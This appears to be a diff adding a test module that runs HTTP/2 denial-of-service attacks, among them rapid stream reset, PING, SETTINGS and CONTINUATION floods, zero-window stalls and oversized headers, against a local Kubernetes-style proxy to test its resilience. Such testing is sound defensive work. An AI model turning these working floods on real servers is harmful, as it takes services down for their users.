@@ -1,0 +1,155 @@
+"""Attacks on a hub over HTTP/2."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+from h2.config import H2Configuration
+from h2.connection import H2Connection
+from h2.errors import ErrorCodes
+from h2.settings import SettingCodes
+
+from tests.cloud.ports import LOOPBACK
+from tests.hub.support.attack import IN_DEFAULT, PATIENCE, SLICES, Aim, context_of, opened
+
+STREAMS = 90
+"""Streams of one HTTP/2 connection that the client does not read."""
+BATCHES = 50
+"""Packets of requests, or of frames, that one round of an attack sends."""
+SETTINGS = b"\4\0\0\0\0\0"
+"""A head of a SETTINGS frame, behind its length."""
+NO_WINDOW = b"\0\4\0\0\0\0"
+"""The setting by which no stream has room."""
+
+
+@asynccontextmanager
+async def framing(aim: Aim) -> AsyncIterator[tuple[H2Connection, asyncio.StreamWriter]]:
+    """A connection of HTTP/2 that has begun; the caller sends what there is to send."""
+    async with opened(aim.tls, context_of("h2")) as (_, writer):
+        connection = H2Connection(H2Configuration(client_side=True))
+        connection.initiate_connection()
+        yield connection, writer
+
+
+def begun(
+    connection: H2Connection,
+    method: str,
+    path: str,
+    token: str,
+    *,
+    end: bool = True,
+    component: str = "kube-proxy/v1",
+) -> int:
+    """The number of a request that has been begun."""
+    number = connection.get_next_available_stream_id()
+    pseudo = [(":method", method), (":path", path), (":scheme", "https"), (":authority", LOOPBACK)]
+    sent = [*pseudo, ("authorization", f"Bearer {token}"), ("user-agent", component)]
+    connection.send_headers(number, sent, end_stream=end)
+    return int(number)
+
+
+async def unread_streams(aim: Aim) -> None:
+    """Lists over HTTP/2 of which the client reads no byte; the connection breaks off at the end."""
+    async with framing(aim) as (connection, writer):
+        for number in range(STREAMS):
+            begun(
+                connection,
+                "GET",
+                f"{SLICES}?resourceVersion=0" + ("&watch=true" if number % 2 else ""),
+                aim.reader,
+            )
+        writer.write(connection.data_to_send())
+        await asyncio.sleep(PATIENCE / 2)
+
+
+async def taken_back_requests(aim: Aim) -> None:
+    """Requests that are relayed, and cancelled in the same packet, as fast as the hub takes them."""
+    async with framing(aim) as (connection, writer):
+        for _ in range(BATCHES):
+            for _ in range(STREAMS):
+                number = begun(connection, "GET", IN_DEFAULT + "configmaps/none", aim.reader)
+                connection.reset_stream(number, ErrorCodes.CANCEL)
+            writer.write(connection.data_to_send())
+            await writer.drain()
+
+
+async def frames_for_nothing(aim: Aim) -> None:
+    """PING, SETTINGS, PRIORITY, updates of windows, and a head that goes on and on, each in thousands."""
+    floods = (
+        (b"", b"\0\0\x08\x06\0\0\0\0\0" + bytes(8)),
+        (b"", b"\0\0\x06\x04\0\0\0\0\0\0\x03\0\0\0\x64"),
+        (b"", b"\0\0\x05\x02\0\0\0\0\x01\0\0\0\0\x10"),
+        (b"", b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01"),
+        (b"\0\0\0\x01\0\0\0\0\x01", b"\0\0\0\x09\0\0\0\0\x01"),
+    )
+    for begin, flood in floods:
+        async with framing(aim) as (connection, writer):
+            writer.write(connection.data_to_send() + begin)
+            for _ in range(BATCHES):
+                writer.write(flood * 4_000)
+                await writer.drain()
+
+
+async def bytes_one_by_one(aim: Aim) -> None:
+    """Bodies of which each frame has a byte, or none."""
+    async with framing(aim) as (connection, writer):
+        numbers = [begun(connection, "POST", IN_DEFAULT + "events", aim.reader, end=False) for _ in range(10)]
+        for _ in range(BATCHES):
+            for number in numbers * 20:
+                connection.send_data(number, b"")
+                connection.send_data(number, b"x")
+            writer.write(connection.data_to_send())
+            await writer.drain()
+
+
+async def invented_settings(aim: Aim) -> None:
+    """Settings that nobody knows, and a table of heads that may have 2 GiB, by a client without a token."""
+    async with framing(aim) as (connection, writer):
+        numbers = [int(SettingCodes.HEADER_TABLE_SIZE), *range(100, 65_536)]
+        for at in range(0, len(numbers), 20_000):
+            said = b"".join(number.to_bytes(2) + b"\x7f\xff\xff\xff" for number in numbers[at : at + 20_000])
+            writer.write(connection.data_to_send() + len(said).to_bytes(3) + SETTINGS + said)
+            await writer.drain()
+        for _ in range(BATCHES):
+            begun(connection, "GET", f"/version?x={next(aim.numbers)}", aim.nobody)
+        writer.write(connection.data_to_send())
+        await asyncio.sleep(PATIENCE / 2)
+
+
+async def told_windows(aim: Aim) -> None:
+    """Answers that wait for a window, and thousands of frames about windows that let no byte of them go."""
+    async with framing(aim) as (connection, writer):
+        writer.write(connection.data_to_send() + b"\0\0\x06" + SETTINGS + NO_WINDOW)
+        for _ in range(10 * STREAMS):
+            begun(connection, "GET", "/refused", "")
+        writer.write(connection.data_to_send())
+        await asyncio.sleep(1.0)
+        for _ in range(BATCHES):
+            writer.write((b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01\0\0\x06" + SETTINGS + NO_WINDOW) * 1_000)
+            await writer.drain()
+
+
+async def long_heads(aim: Aim) -> None:
+    """Requests with heads of 30 KB, each of which waits for the end of its body."""
+    async with framing(aim) as (connection, writer):
+        target = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
+        fields = [(":method", "POST"), (":path", target), (":scheme", "https"), (":authority", LOOPBACK)]
+        fields += [("authorization", f"Bearer {aim.nobody}"), ("x-long", f"{next(aim.numbers):030000}")]
+        for stream in range(1, 10 * STREAMS, 2):
+            packed, of = connection.encoder.encode(fields, huffman=False), stream.to_bytes(4)
+            first, rest = packed[:16_000], packed[16_000:]
+            begin = len(first).to_bytes(3) + b"\1\0" + of + first
+            writer.write(connection.data_to_send() + begin + len(rest).to_bytes(3) + b"\x09\4" + of + rest)
+            await writer.drain()
+        await asyncio.sleep(PATIENCE / 2)
+
+
+async def held_lists(aim: Aim) -> None:
+    """Lists that the hub keeps for the next outage, of which the client reads no byte."""
+    async with framing(aim) as (connection, writer):
+        for _ in range(STREAMS):
+            begun(connection, "GET", IN_DEFAULT + "configmaps", aim.reader, component="kubelet/v1")
+        writer.write(connection.data_to_send())
+        await asyncio.sleep(PATIENCE / 2)
